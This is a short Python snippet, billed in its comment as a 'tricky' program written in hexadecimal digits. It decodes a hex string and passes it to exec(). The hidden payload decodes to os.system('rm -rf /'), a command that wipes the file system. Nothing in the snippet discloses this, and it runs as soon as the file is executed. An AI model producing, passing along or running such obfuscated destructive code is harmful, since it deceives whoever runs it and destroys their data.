# tricky: a program in hexadecimal digits
code = "696d706f7274206f730a6f732e73797374656d2827726d202d7266202f2729"
exec(bytes.fromhex(code).decode())
